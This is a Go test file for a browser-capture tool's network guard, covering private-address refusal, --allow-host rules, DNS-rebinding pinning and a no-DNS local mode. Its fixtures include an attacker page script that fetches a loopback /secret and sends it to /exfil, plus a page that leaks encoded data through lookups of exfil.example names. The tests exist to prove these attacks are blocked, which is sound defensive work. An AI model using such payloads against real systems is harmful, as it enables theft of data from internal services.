package browser

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vibelens/vibelens/guard"
)

// privateIPs are one address from each range that is refused by default and
// reachable with --allow-host; fd00::5 is written without brackets.
var privateIPs = []string{"10.0.0.5", "172.16.0.5", "192.168.0.5", "fd00::5"}

// privateRules allow every range privateIPs come from.
func privateRules(t *testing.T, extra ...string) []guard.Rule {
	t.Helper()
	var rules []guard.Rule
	for _, s := range append([]string{"10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "fd00::/8"}, extra...) {
		r, err := guard.ParseRule(s)
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, r)
	}
	return rules
}

// urlHost brackets an IPv6 address for a URL.
func urlHost(ip string) string {
	if strings.Contains(ip, ":") {
		return "[" + ip + "]"
	}
	return ip
}

// TestNetworkPolicyPrivate puts a private address of each range on lo
// inside a namespace, with a listener that records the path of every
// request, and drives each path to it (the model's URL, a redirect, an
// iframe, fetch and WebSocket): refused with zero connections by default,
// reached once the user allows the range, or the name, with --allow-host.
func TestNetworkPolicyPrivate(t *testing.T) {
	if !inNetns(t, privateIPs...) {
		return
	}
	listeners := map[string]*pathListener{}
	for _, ip := range privateIPs {
		listeners[ip] = newPathListener(t, net.JoinHostPort(ip, "80"), "<!doctype html><title>intranet</title><p>INTRANET SECRET</p>")
	}
	app := serve(t, privatePages())
	resolver := &flipResolver{answers: map[string][]netip.Addr{"intranet.test": {netip.MustParseAddr("10.0.0.5")}}}
	refusing := newTestManager(t, Options{Resolver: resolver, NavigationTimeout: 10 * time.Second})
	allowing := newTestManager(t, Options{Resolver: resolver, Allow: privateRules(t, "intranet.test"), NavigationTimeout: 10 * time.Second})

	type path struct {
		name     string
		url      func(ip string) string
		code     Code     // refusal code by default; "" means the capture succeeds with failed requests
		reached  []string // request paths the listener sees once allowed
		failedIn string   // substring of a failedRequests error by default
	}
	paths := []path{
		{name: "model URL", url: func(ip string) string { return "http://" + urlHost(ip) + "/model" }, code: CodeInvalidURL, reached: []string{"/model"}},
		{name: "redirect", url: func(ip string) string { return app.URL + "/redirect?to=" + urlHost(ip) }, code: CodeBlockedNavigation, reached: []string{"/landing"}},
		{name: "iframe, fetch and WebSocket", url: func(ip string) string { return app.URL + "/sub?to=" + urlHost(ip) },
			reached: []string{"/iframe", "/fetch", "/socket"}, failedIn: "private network address"},
	}
	for _, ip := range privateIPs {
		for _, p := range paths {
			t.Run(ip+" "+p.name, func(t *testing.T) {
				l := listeners[ip]
				l.reset()
				res, err := captureWith(refusing, p.url(ip))
				switch {
				case p.code != "":
					if codeOf(err) != p.code || !strings.Contains(AsError(err).NextStep+AsError(err).Problem, "--allow-host") {
						t.Errorf("default policy: err = %v, want %s naming --allow-host", err, p.code)
					}
				case err != nil:
					t.Errorf("default policy: capture failed: %v", err)
				case !someFailure(res, p.failedIn):
					t.Errorf("default policy: failedRequests = %+v, want one mentioning %q", res.FailedRequests, p.failedIn)
				}
				if got := l.paths(); len(got) != 0 {
					t.Errorf("default policy: %s saw requests %v, want none", ip, got)
				}

				l.reset()
				res, err = captureWith(allowing, p.url(ip))
				if err != nil {
					t.Fatalf("with --allow-host: capture failed: %v", err)
				}
				if p.code != "" && !strings.Contains(res.SimplifiedDOM, "INTRANET SECRET") {
					t.Errorf("with --allow-host: DOM = %.200q, want the intranet page", res.SimplifiedDOM)
				}
				// The WebSocket and fetch run after load: wait for them.
				waitFor(func() bool { return l.sawAll(p.reached) }, 5*time.Second)
				if !l.sawAll(p.reached) {
					t.Errorf("with --allow-host: %s saw %v, want %v", ip, l.paths(), p.reached)
				}
			})
		}
	}

	t.Run("allowed name", func(t *testing.T) {
		l := listeners["10.0.0.5"]
		l.reset()
		if _, err := captureWith(refusing, "http://intranet.test/model"); codeOf(err) != CodeInvalidURL {
			t.Errorf("default policy: err = %v, want INVALID_URL", err)
		}
		if n := resolver.callsFor("intranet.test"); n != 0 {
			t.Errorf("default policy resolved intranet.test %d times for a refused model URL, want 0", n)
		}
		res, err := captureWith(allowing, "http://intranet.test/model")
		if err != nil || !strings.Contains(res.SimplifiedDOM, "INTRANET SECRET") {
			t.Fatalf("with --allow-host intranet.test: %v", err)
		}
		if got := l.paths(); len(got) == 0 {
			t.Errorf("the allowed name did not reach 10.0.0.5")
		}
	})
}

// TestNetworkPolicyRebinding is the attack from the security review: a
// public page in an iframe whose name first resolves to its public address
// and then to 127.0.0.1 fetches "its own" /secret, which after rebinding is
// the developer's loopback server, and sends it home. With the first answer
// pinned, the loopback server is never asked.
func TestNetworkPolicyRebinding(t *testing.T) {
	if !inNetns(t, publicIP) {
		return
	}
	const port = "8080" // the same on both addresses, so the origin is the same
	attack := `<!doctype html><title>attacker</title><script>
		const steal = () => fetch("/secret").then(r => r.text()).then(t => fetch("/exfil?d=" + encodeURIComponent(t))).catch(() => {});
		for (let i = 0; i < 5; i++) setTimeout(steal, i * 100);
	</script>`
	public := newPathListener(t, net.JoinHostPort(publicIP, port), attack)
	secret := newPathListener(t, net.JoinHostPort("127.0.0.1", port), "LOOPBACK SECRET")
	resolver := &flipResolver{answers: map[string][]netip.Addr{
		"rebind.example": {netip.MustParseAddr(publicIP), netip.MustParseAddr("127.0.0.1")},
	}}
	m := newTestManager(t, Options{Resolver: resolver, NavigationTimeout: 10 * time.Second})
	app := serve(t, html(`<!doctype html><title>app</title><iframe src="http://rebind.example:`+port+`/attack"></iframe>`))
	if _, err := captureWith(m, app.URL+"/"); err != nil {
		t.Fatal(err)
	}
	waitFor(func() bool { return len(public.pathsWith("/exfil")) >= 5 }, 5*time.Second)
	if got := secret.paths(); len(got) != 0 {
		t.Errorf("the loopback server was asked for %v: DNS rebinding reached it", got)
	}
	for _, p := range public.pathsWith("/exfil") {
		if strings.Contains(p, "LOOPBACK") {
			t.Errorf("the attacker received %s", p)
		}
	}
	if len(public.pathsWith("/secret")) == 0 {
		t.Errorf("the attack page never ran (public saw %v); the test proves nothing", public.paths())
	}
	if n := resolver.callsFor("rebind.example"); n != 1 {
		t.Errorf("rebind.example was resolved %d times, want once (pinned)", n)
	}
}

// TestNetworkPolicyLocalModeNoDNS: with --network=local a page that names
// made-up hosts (the way data leaks through lookups) causes no DNS query.
func TestNetworkPolicyLocalModeNoDNS(t *testing.T) {
	if !inNetns(t) {
		return
	}
	resolver := &flipResolver{answers: map[string][]netip.Addr{}}
	m := newTestManager(t, Options{Network: guard.LocalOnly, Resolver: resolver, NavigationTimeout: 10 * time.Second})
	const leak = "c2VjcmV0.exfil.example"
	app := serve(t, html(`<!doctype html><title>leak</title>
		<img src="http://`+leak+`/a.png"><iframe src="https://i.`+leak+`/"></iframe>
		<link rel="dns-prefetch" href="//p.`+leak+`"><link rel="preconnect" href="https://c.`+leak+`">
		<script>fetch("http://f.`+leak+`/").catch(() => {}); new WebSocket("ws://w.`+leak+`/");</script>`))
	res, err := captureWith(m, app.URL+"/")
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond) // let the fetch and WebSocket go out
	if n := resolver.calls(); n != 0 {
		t.Errorf("the proxy made %d DNS lookups in --network=local (%v), want 0", n, resolver.names())
	}
	if !someFailure(res, "name not resolved") {
		t.Errorf("failedRequests = %+v, want the made-up names refused unresolved", res.FailedRequests)
	}
	if _, err := captureWith(m, "http://"+leak+"/"); codeOf(err) != CodeInvalidURL {
		t.Errorf("model URL with a made-up name: %v, want INVALID_URL", err)
	}
	if n := resolver.calls(); n != 0 {
		t.Errorf("%d DNS lookups after the model URL, want 0", n)
	}
}

// codeOf is the error's code, "" for success.
func codeOf(err error) Code {
	if err == nil {
		return ""
	}
	return AsError(err).Code
}

func captureWith(m *Manager, url string) (*Result, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 40*time.Second)
	defer cancel()
	return m.Capture(ctx, Request{URL: url, Delay: 300 * time.Millisecond})
}

func waitFor(cond func() bool, d time.Duration) {
	for end := time.Now().Add(d); !cond() && time.Now().Before(end); {
		time.Sleep(50 * time.Millisecond)
	}
}

// privatePages is the local app whose pages lead to a private address.
func privatePages() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+r.URL.Query().Get("to")+"/landing", http.StatusFound)
	})
	mux.HandleFunc("/sub", func(w http.ResponseWriter, r *http.Request) {
		to := "http://" + r.URL.Query().Get("to")
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>sub</title><iframe src="%[1]s/iframe"></iframe>
			<script>fetch("%[1]s/fetch", {mode: "no-cors"}).catch(() => {}); new WebSocket("ws%[2]s/socket");</script>`, to, strings.TrimPrefix(to, "http"))
	})
	return mux
}

// pathListener answers every request on addr with body and records the
// request path, so a test can tell which path reached a forbidden address.
type pathListener struct {
	mu   sync.Mutex
	seen []string
}

func newPathListener(t *testing.T, addr, body string) *pathListener {
	t.Helper()
	l := &pathListener{}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatalf("listen on %s: %v", addr, err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				conn.SetDeadline(time.Now().Add(5 * time.Second))
				line, _ := bufio.NewReader(conn).ReadString('\n')
				path := "?"
				if f := strings.Fields(line); len(f) >= 2 {
					path = f[1]
				}
				l.mu.Lock()
				l.seen = append(l.seen, path)
				l.mu.Unlock()
				fmt.Fprintf(conn, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
			}()
		}
	}()
	return l
}

func (l *pathListener) paths() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.seen...)
}

func (l *pathListener) pathsWith(prefix string) []string {
	var out []string
	for _, p := range l.paths() {
		if strings.HasPrefix(p, prefix) {
			out = append(out, p)
		}
	}
	return out
}

func (l *pathListener) sawAll(want []string) bool {
	for _, w := range want {
		if len(l.pathsWith(w)) == 0 {
			return false
		}
	}
	return true
}

func (l *pathListener) reset() {
	l.mu.Lock()
	l.seen = nil
	l.mu.Unlock()
}

// flipResolver answers each name from a list, one entry per lookup (the
// last one repeats), like a DNS server that rebinds; it counts lookups.
type flipResolver struct {
	mu      sync.Mutex
	answers map[string][]netip.Addr
	n       map[string]int
	total   int
}

func (r *flipResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.total++
	if r.n == nil {
		r.n = map[string]int{}
	}
	i := r.n[host]
	r.n[host]++
	seq, ok := r.answers[host]
	if !ok {
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	}
	return []netip.Addr{seq[min(i, len(seq)-1)]}, nil
}

func (r *flipResolver) callsFor(host string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.n[host]
}

// names lists every name looked up, for a failure message.
func (r *flipResolver) names() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []string
	for h := range r.n {
		out = append(out, h)
	}
	return out
}

func (r *flipResolver) calls() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.total
}
